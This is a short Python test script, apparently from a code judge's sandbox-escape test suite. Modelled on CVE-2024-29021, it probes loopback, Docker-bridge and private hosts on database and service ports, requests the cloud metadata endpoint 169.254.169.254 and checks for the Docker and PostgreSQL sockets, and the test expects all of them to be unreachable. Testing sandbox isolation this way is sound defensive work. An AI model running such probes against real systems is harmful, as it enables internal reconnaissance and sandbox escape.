#! attack: reach the judge's own services from inside, as in CVE-2024-29021 (database, queue, metadata); there is no network
#! status: exited
#! stdout: unreachable
#! quick: yes
import os
import socket
import urllib.request

reached = []
HOSTS = [
    "127.0.0.1",
    "0.0.0.0",
    "::1",
    "localhost",
    "169.254.169.254",
    "172.17.0.1",
    "10.0.0.1",
    "192.168.0.1",
    "db",
    "redis",
]
for host in HOSTS:
    for port in (22, 80, 2358, 5432, 6379, 8000, 8080, 9092):
        try:
            socket.create_connection((host, port), timeout=0.01).close()
            reached.append(f"{host}:{port}")
        except OSError:
            pass
for url in ("http://127.0.0.1:8000/", "http://169.254.169.254/latest/meta-data/", "ftp://127.0.0.1/"):
    try:
        urllib.request.urlopen(url, timeout=0.1).close()
        reached.append(url)
    except OSError:
        pass
for path in (
    "/run/postgresql/.s.PGSQL.5432",
    "/var/run/docker.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/notify",
):
    if os.path.lexists(path):
        reached.append(path)
print(*(reached or ["unreachable"]))
